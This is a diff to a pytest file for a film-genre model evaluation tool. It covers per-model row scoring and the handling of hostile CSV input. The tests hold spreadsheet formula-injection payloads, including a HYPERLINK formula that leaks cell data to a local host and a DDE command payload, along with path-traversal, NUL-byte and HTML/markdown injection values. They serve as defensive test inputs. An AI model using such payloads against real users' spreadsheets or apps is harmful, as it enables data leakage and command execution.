@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import stat
 import zipfile
 from pathlib import Path
@@ -25,8 +24,8 @@ from genre_models.data.film_rows import FilmRow, read_records
 from genre_models.data.safe_zip import extract_zip
 from genre_models.errors import DataError, InvalidInputError
 from genre_models.genres import GENRES
-from genre_models.session_files import SessionFolders
 from genre_models.training.metrics import multilabel_metrics
+from genre_models.training.report import TABLE_COLUMNS
 from films import GENRE_STYLE
 
 HEADER = ["id", "title", "year", "genres", "plot", "poster"]
@@ -67,16 +66,124 @@ def test_bad_rows_are_named_by_line_and_skipped_the_rest_scored(tiny_models, tmp
            ["x1", "Out", "", "Horror", "ghost house", "../films.csv"]]
     films, posters = write_films(tmp_path, n=6, extra_rows=bad)
     result = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit"], films, posters, workdir=tmp_path / "w")
+    # a row no model can use is skipped; a row one model cannot read still counts for the other (issue 35)
     assert result.skipped == [
         "line 8: unknown genre 'Spaghetti'; row skipped",
-        "line 9: empty plot; row skipped",
-        "line 10: empty plot; row skipped",
-        "line 11: poster 'posters/nope.png' is not in the zip; row skipped",
-        "line 13: missing column(s) plot, poster (fewer cells than the header); row skipped",
+        "line 9: empty plot; not scored by Tiny BERT",
+        "line 10: empty plot; not scored by Tiny BERT",
+        "line 11: poster 'posters/nope.png' is not in the zip; not scored by Tiny CLIP ViT",
+        "line 13: missing column(s) plot (fewer cells than the header); missing column(s) poster (fewer cells "
+        "than the header); row skipped",
         "line 14: id 'f0' repeats an earlier row; row skipped",
-        "line 15: poster '../films.csv' points outside the zip; row skipped"]
-    assert [f.id for f in result.films] == [f"f{i}" for i in range(6)]
-    assert [r.films for r in result.results] == [6, 6, 6, 6]
+        "line 15: poster '../films.csv' points outside the zip; not scored by Tiny CLIP ViT"]
+    assert [f.id for f in result.films] == [f"f{i}" for i in range(6)] + ["e1", "z1", "m1", "x1"]
+    by_model = {key: [result.films[row].id for row in a.rows] for key, a in result.answers.items()}
+    assert by_model == {"tiny-bert": [f"f{i}" for i in range(6)] + ["m1", "x1"],
+                        "tiny-clip-vit": [f"f{i}" for i in range(6)] + ["e1", "z1"]}
+    # two sets of films: each model's row, then the baselines on that model's films
+    assert [(r.name, r.films) for r in result.results] == [
+        ("Tiny BERT", 8), ("baseline: all-negative (on the films of Tiny BERT)", 8),
+        ("baseline: label-prior (on the films of Tiny BERT)", 8),
+        ("Tiny CLIP ViT", 8), ("baseline: all-negative (on the films of Tiny CLIP ViT)", 8),
+        ("baseline: label-prior (on the films of Tiny CLIP ViT)", 8)]
+
+
+def few_posters(folder: Path, n: int = 17, with_poster: tuple[int, ...] = (3, 11)) -> tuple[Path, Path]:
+    """A films CSV where only the films ``with_poster`` name a poster (the zip still holds every one)."""
+    films, posters = write_films(folder, n=n)
+    with open(films, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    for i, row in enumerate(rows[1:]):
+        row[5] = row[5] if i in with_poster else ""
+    with open(films, "w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows(rows)
+    return films, posters
+
+
+def _rows(result: FilmsEvaluation) -> dict[str, list]:
+    """{model key: [its row, then the baselines beside it]} of a result's table (a group of models on the
+    same films is followed by its baselines)."""
+    out, group, closed = {}, [], False
+    for key, row in zip(result.keys, result.results):
+        if key:
+            group, closed = ([], False) if closed else (group, closed)
+            group.append(key)
+            out[key] = [row]
+        else:
+            closed = True
+            for model in group:
+                out[model].append(row)
+    return out
+
+
+def test_each_model_scores_every_film_it_can_read_as_when_run_alone(tiny_models, tmp_path):
+    """Issue 35: 17 films, 2 with posters. A poster model neither shrinks the plot models' films nor, when it
+    has no weights, anyone's; each row (and the baselines beside it) equals that model run alone."""
+    films, posters = few_posters(tmp_path)
+    pool = ModelPool()  # one pool: the tiny CLIP's random weights are drawn once, for every run below
+    keys = ["minilm", "tfidf", "clip-vit-b-16", "tiny-clip-vit"]  # CLIP ViT-B/16: weights not downloaded here
+    result = evaluate_films(pool, keys, films, posters, workdir=tmp_path / "w")
+    assert result.notes == ["CLIP ViT-B/16: not evaluated: weights not downloaded"]
+    assert len(result.films) == 17 and [(k, len(a.rows)) for k, a in result.answers.items()] == [
+        ("minilm", 17), ("tfidf", 17), ("tiny-clip-vit", 2)]
+    # the films without a poster are named for the poster model that ran, never for the one that could not
+    assert result.skipped == [f"line {i + 2}: no poster named; not scored by Tiny CLIP ViT"
+                              for i in range(17) if i not in (3, 11)]
+    assert "films column" in result.table_markdown()
+    together = _rows(result)
+    assert list(together) == ["minilm", "tfidf", "tiny-clip-vit"]
+    for key in together:
+        alone = evaluate_films(pool, [key], films, posters, workdir=tmp_path / key)
+        assert [(r.name, r.films) for r in together[key]][0] == (alone.results[0].name, alone.results[0].films)
+        for mine, its in zip(together[key], alone.results, strict=True):  # the model, then its baselines
+            assert mine.films == its.films and mine.mode == its.mode and mine.thresholds == its.thresholds, key
+            for metric, _ in TABLE_COLUMNS:
+                assert mine.metrics[metric] == pytest.approx(its.metrics[metric], abs=1e-12), (key, mine.name, metric)
+    # the plot models and their baselines are on all 17 films, the poster model and its baselines on its 2
+    assert {r.name: r.films for r in result.results if r.mode == "baseline"} == {
+        "baseline: all-negative (on the films of MiniLM (plot), TF-IDF + LR (plot))": 17,
+        "baseline: label-prior (on the films of MiniLM (plot), TF-IDF + LR (plot))": 17,
+        "baseline: all-negative (on the films of Tiny CLIP ViT)": 2,
+        "baseline: label-prior (on the films of Tiny CLIP ViT)": 2}
+
+
+def test_the_cli_scores_the_plot_models_on_films_without_posters(tiny_models, tmp_path, capsys):
+    """Issue 35: ``evaluate --all-films`` with posters beside a minority of films (relative to the CSV)."""
+    films, posters = few_posters(tmp_path, n=20, with_poster=(0, 5, 9))
+    with zipfile.ZipFile(posters) as zf:
+        zf.extractall(tmp_path)  # posters/f0.png ... next to the CSV, as the README's example has them
+    out = tmp_path / "out"
+    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "minilm", "clip-vit-b-16",
+                              "tiny-clip-vit", "--out", str(out)]) == 0
+    table = json.loads((out / "evaluation.json").read_text())["table"]
+    assert [(r["model"], r["films"]) for r in table] == [
+        ("minilm", 20), ("baseline: all-negative (on the films of MiniLM (plot))", 20),
+        ("baseline: label-prior (on the films of MiniLM (plot))", 20), ("tiny-clip-vit", 3),
+        ("baseline: all-negative (on the films of Tiny CLIP ViT)", 3),
+        ("baseline: label-prior (on the films of Tiny CLIP ViT)", 3)]
+    assert "CLIP ViT-B/16: not evaluated: weights not downloaded" in capsys.readouterr().out
+    alone = evaluate_films(ModelPool(), ["minilm"], films, poster_root=tmp_path).to_dict()["table"]
+    for mine, its in zip(table[:3], alone, strict=True):  # MiniLM and its baselines, as when run alone
+        assert {k: v for k, v in mine.items() if k not in ("model", "name")} == \
+            {k: v for k, v in its.items() if k not in ("model", "name")}
+
+
+def test_a_model_that_can_read_no_film_says_so_and_whether_its_weights_are_missing(tiny_models, tmp_path):
+    films, posters = few_posters(tmp_path, n=5, with_poster=())
+    result = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit", "clip-vit-b-16"], films, posters,
+                            workdir=tmp_path / "w")
+    assert list(result.answers) == ["tiny-bert"] and result.skipped == []
+    tiny, clip = result.notes
+    assert tiny == "Tiny CLIP ViT: not evaluated: it can read none of these films (e.g. line 2: no poster named)"
+    assert clip.startswith("CLIP ViT-B/16: not evaluated: it can read none of these films (e.g. line 2: no poster "
+                           "named); its weights cannot be loaded either: weights not downloaded (fix: ")
+    assert clip.endswith(" --models clip-vit-b-16)")
+    # no zip at all: the poster model that loads needs the zip; the one without weights says both (issue 35)
+    tiny, clip = evaluate_films(ModelPool(), ["tiny-bert", "tiny-clip-vit", "clip-vit-b-16"], films).notes
+    assert tiny == ("Tiny CLIP ViT: not evaluated: it reads posters; add a zip of the posters named in the CSV's "
+                    "poster column")
+    assert clip.startswith("CLIP ViT-B/16: not evaluated: it reads posters; add a zip of the posters named in the "
+                           "CSV's poster column; its weights cannot be loaded either: weights not downloaded (fix: ")
 
 
 def test_a_stray_delimiter_shifts_nothing_and_an_extra_cell_is_named_by_line(tiny_models, tmp_path):
@@ -277,23 +384,6 @@ def test_a_good_zip_unpacks_and_a_non_zip_is_one_line(tmp_path):
         extract_zip(tmp_path / "not.zip", tmp_path / "x")
 
 
-def test_a_session_folder_and_its_uploads_go_with_the_session(tmp_path):
-    folders = SessionFolders()
-    upload = tmp_path / "films.csv"
-    upload.write_text("id")
-    first = folders.fresh("s1")
-    (first / "posters").mkdir()
-    second = folders.fresh("s1")  # a new evaluation replaces the session's previous files
-    assert not first.exists() and second.is_dir()
-    other = folders.fresh("s2")
-    folders.track("s1", str(upload), None)
-    folders.remove("s1")
-    assert not second.exists() and not upload.exists() and other.is_dir()
-    folders.remove_all()
-    assert not other.exists()
-    assert os.path.isdir(tmp_path)
-
-
 def test_the_chart_shows_each_model_on_the_genres_the_films_have(tiny_models, tmp_path):
     films, _ = write_films(tmp_path, n=8)
     result = evaluate_films(ModelPool(), ["tiny-bert", "minilm"], films)
@@ -316,3 +406,111 @@ def test_a_backbone_two_models_read_runs_once_per_chunk(tiny_models, tmp_path, m
     # late fusion of zero-shots reads the CLIP's poster features, as the CLIP itself does
     result = evaluate_films(pool, ["tiny-clip-vit", "tiny-fusion"], films, posters, workdir=tmp_path / "w")
     assert [r.films for r in result.results[:2]] == [5, 5] and calls == [5]
+
+
+# -- issue 33: a hostile films CSV (items 5, 9, 11, 12) -----------------------------------------------
+
+FORMULA_IDS = ['=HYPERLINK("http://127.0.0.1/leak?x="&A1,"details")', "+1+1", "@SUM(1,1)", "-2+3",
+               "=cmd|' /C calc'!A0", "\uff1dSUM(1)", "\u200b=1+1"]
+
+
+def _rewrite(path: Path, change) -> Path:
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    with open(path, "w", newline="", encoding="utf-8") as handle:
+        csv.writer(handle).writerows(change(rows))
+    return path
+
+
+def _written(path: Path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+def test_no_film_id_reaches_the_cli_predictions_csv_as_a_formula(tiny_models, tmp_path):
+    films, _ = write_films(tmp_path, n=len(FORMULA_IDS) + 1)
+    _rewrite(films, lambda rows: [rows[0]] + [[i] + r[1:] for i, r in zip(FORMULA_IDS, rows[1:])] + rows[-1:])
+    out = tmp_path / "out"
+    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "tiny-bert", "--out", str(out)]) == 0
+    written = _written(out / "predictions.csv")
+    assert [row[0] for row in written[1:]] == ["'" + i for i in FORMULA_IDS] + [f"f{len(FORMULA_IDS)}"]
+    assert json.loads((out / "evaluation.json").read_text())["films"] == len(FORMULA_IDS) + 1
+
+
+def test_no_cell_of_the_pages_predictions_csv_is_a_formula(tmp_path):
+    evaluation = _evaluation({"a": [[0.9, 0.2]] * 3, "-b": [[0.1, 0.7]] * 3}, 3)
+    for film, film_id in zip(evaluation.films, ["@SUM(1,1)", "\t=1+1", "f2"]):
+        film.id = film_id
+    written = _written(evaluation.write_predictions(tmp_path / "predictions.csv"))
+    assert [(row[0], row[1]) for row in written[1:]] == [
+        ("'@SUM(1,1)", "a"), ("'\t=1+1", "a"), ("f2", "a"), ("'@SUM(1,1)", "'-b"), ("'\t=1+1", "'-b"), ("f2", "'-b")]
+
+
+def test_a_bad_poster_cell_costs_its_row_and_the_rest_is_scored(tiny_models, tmp_path, capsys):
+    bad = [["n1", "Nul", "", "Horror", "ghost house", "posters/f0\0.png"],
+           ["l1", "Long", "", "Horror", "ghost house", "x" * 300 + ".png"]]
+    films, posters = write_films(tmp_path, n=5, extra_rows=bad)
+    out = tmp_path / "out"
+    assert evaluate_cli.main(["--all-films", "--data", str(films), "--posters", str(posters), "--models",
+                              "tiny-bert", "tiny-clip-vit", "--out", str(out)]) == 0
+    printed = capsys.readouterr().out
+    assert "  line 7: a NUL byte in column(s) poster; row skipped\n" in printed
+    assert f"  line 8: poster {'x' * 60 + '…'!r} cannot be looked up (File name too long); " in printed
+    films_of = {row["model"]: row["films"] for row in json.loads((out / "evaluation.json").read_text())["table"]}
+    assert films_of["tiny-clip-vit"] == 5 and films_of["tiny-bert"] in (5, 6)  # 6: the plot of line 8 is read
+    result = evaluate_films(ModelPool(), ["tiny-clip-vit"], films, posters, workdir=tmp_path / "w")  # the page's
+    assert [f.id for f in result.films] == [f"f{i}" for i in range(5)]
+    assert [s.split(":")[0] for s in result.skipped] == ["line 7", "line 8"]
+
+
+def test_repeated_column_names_are_refused_in_one_line_naming_them(tiny_models, tmp_path, capsys):
+    films, _ = write_films(tmp_path, n=4)
+    _rewrite(films, lambda rows: [rows[0] + ["genres", "plot"]] + [r + ["Comedy", "a joke"] for r in rows[1:]])
+    assert evaluate_cli.main(["--all-films", "--data", str(films), "--models", "tiny-bert",
+                              "--out", str(tmp_path / "out")]) == 2
+    assert capsys.readouterr().err == ("error: line 1: column name(s) 'genres', 'plot' appear more than once; "
+                                       "name each column once\n")
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_header_of_100000_columns_is_refused_in_one_line(tiny_models, tmp_path):
+    films, _ = write_films(tmp_path, n=4)
+    _rewrite(films, lambda rows: [rows[0] + [f"c{i}" for i in range(100_000)]] + rows[1:])
+    with pytest.raises(DataError, match=r"^line 1: the header is over 10,000 characters; the limits are 256 columns "
+                                        r"and 10,000 characters \(GenreLens reads id,title,year,genres,plot,poster\)$"):
+        evaluate_films(ModelPool(), ["tiny-bert"], films)
+
+
+def test_disagreements_show_titles_ids_and_names_as_typed():
+    """Issue 33: a title such as ![p](http://...) became an image on the page, a bare host a link."""
+    import re
+    from html import unescape
+
+    from genre_models.comparison.your_films import disagreements_markdown
+    split = [{"genre": "Horror", "predicted_by": ["a"], "not_predicted_by": ["www.example.test"]}]
+    films = [{"line": 2, "id": "f1", "title": "![p](http://127.0.0.1:9/p.png)", "genres": ["Horror"], "split": split},
+             {"line": 3, "id": "<img src=x>", "title": "", "genres": ["Drama"], "split": split}]
+    text = disagreements_markdown(films)
+    assert not re.search(r"\]\(|://|www\.|<img", text), text
+    assert unescape(text).splitlines()[2:] == [
+        "- **line 2: ![p](http://127.0.0.1:9/p.png)** (true: Horror): Horror: predicted by a, not by www.example.test",
+        "- **line 3: <img src=x>** (true: Drama): Horror: predicted by a, not by www.example.test"]
+
+
+def test_a_full_disk_leaves_no_half_written_predictions_csv_and_keeps_the_old_one(tmp_path):
+    """Issue 33, item 18, on a real full disk (a filled tmpfs): the page's predictions and the CLI's outputs are
+    written whole or not at all."""
+    from genre_models.files import is_disk_full
+    from tests.support.full_disk import contents, fill, small_disk
+    evaluation = _evaluation({"a": [[0.9, 0.2]] * 500, "b": [[0.1, 0.7]] * 500}, 500)
+    with small_disk(tmp_path / "full") as disk:
+        evaluation.write_predictions(disk / "predictions.csv")
+        before = (disk / "predictions.csv").read_bytes()
+        fill(disk)
+        with pytest.raises(OSError) as info:
+            _evaluation({"a": [[0.3, 0.3]] * 500}, 500).write_predictions(disk / "predictions.csv")
+        assert is_disk_full(info.value)
+        assert (disk / "predictions.csv").read_bytes() == before and contents(disk) == ["predictions.csv"]
+        with pytest.raises(OSError):
+            evaluation.write(disk / "out")
+        assert [p for p in contents(disk) if (disk / p).is_file()] == ["predictions.csv"]
